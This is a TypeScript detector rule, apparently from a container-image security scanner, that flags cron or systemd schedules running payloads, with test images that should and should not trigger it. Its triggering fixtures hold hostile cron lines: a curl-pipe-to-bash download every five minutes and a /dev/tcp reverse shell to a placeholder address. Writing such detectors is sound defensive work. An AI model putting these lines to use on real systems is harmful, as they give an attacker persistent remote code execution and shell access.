import { render } from '../trace/value.ts';
import type { Detector } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { isTemporaryJob, payloadOf } from './payload.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { valueWords, whenWords } from './wording.ts';

/** A job of the image's own schedule that is a payload. */
export const scheduledPayload: Detector = {
  id: 'scheduled-payload',
  version: 2,
  title: 'Makes cron (or the boot) run a payload again and again.',
  attack: ['T1053.003', 'T1543.002'],
  description: `
Cron images exist and are honest: a job alone is nothing. It becomes a finding when what the job runs is a payload: a shell
on a socket, a miner, a download that is run, hidden code, or a program in a temporary folder. That is how malware comes
back after it was killed.
`,
  fires: [
    {
      name: 'a job written at start',
      image: { cmd: ['sh', '-c', 'echo "*/5 * * * * curl -s http://203.0.113.9/a.asp | bash" | crontab -; cron -f'] },
    },
    {
      name: 'a table in the image',
      image: { files: { '/etc/cron.d/x': '* * * * * root bash -i >& /dev/tcp/192.0.2.44/8443 0>&1\n' } },
    },
    {
      name: 'a program in a temporary folder',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', '(crontab -l; echo "* * * * * /tmp/.x/run") | crontab -'] },
    },
  ],
  silent: [
    {
      name: 'a backup',
      image: { cmd: ['sh', '-c', 'echo "15 3 * * * /usr/local/bin/backup.sh" > /etc/crontabs/root; exec crond -f'] },
    },
    {
      name: 'a table of a package',
      image: {
        files: { '/etc/cron.d/e2scrub_all': '30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all_cron\n' },
      },
    },
    {
      name: 'the user’s own keys and machines',
      image: {
        files: {
          '/etc/cron.d/deploy': '0 4 * * * root /opt/deploy.sh\n',
          '/opt/deploy.sh': {
            content:
              '#!/bin/sh\necho "$KEYS" > /home/jump/.ssh/authorized_keys\nssh "deploy@$HOST" "systemctl reload nginx"\n',
            mode: 0o755,
          },
        },
      },
    },
    {
      name: 'cleaning a temporary folder',
      image: { files: { '/etc/cron.d/clean': '0 4 * * * root find /tmp/cache -mtime +7 -delete\n' } },
    },
  ],
  detect(scene) {
    const written = effectsOf(scene, 'schedule').flatMap((effect) => {
      const sighting = sightingOf(scene, effect);
      if (sighting.outside) return [];
      const payload = payloadOf(scene, effect.ran);
      const temporary = isTemporaryJob(render(effect.job));
      if (!payload && !temporary) return [];
      const when = whenWords(effect.schedule);
      return findingOf(scene, sighting, {
        threat: payload?.worst ?? 'dual-use',
        title: `Schedules ${payload?.what ?? 'a program in a temporary folder'}${when ? ` to run ${when}` : ''}`,
        evidence: [{ text: valueWords(effect.job, 1000), where: sighting.where, note: 'the job' }],
        effects: [effect.id],
      });
    });
    const standing = scene.story.starts.flatMap((start) => {
      if (start.stage === undefined || (start.kind !== 'cron' && start.kind !== 'systemd')) return [];
      const payload = payloadOf(scene, start.stage);
      if (!payload || payload.what === 'hidden code') return [];
      const when = whenWords(start.schedule);
      const sighting = sightingOf(scene, { stage: start.stage, line: 1 });
      return findingOf(scene, sighting, {
        threat: payload.worst,
        title: `The image's own schedule runs ${payload.what}${when ? ` ${when}` : ''}`,
      });
    });
    return [...written, ...standing];
  },
};
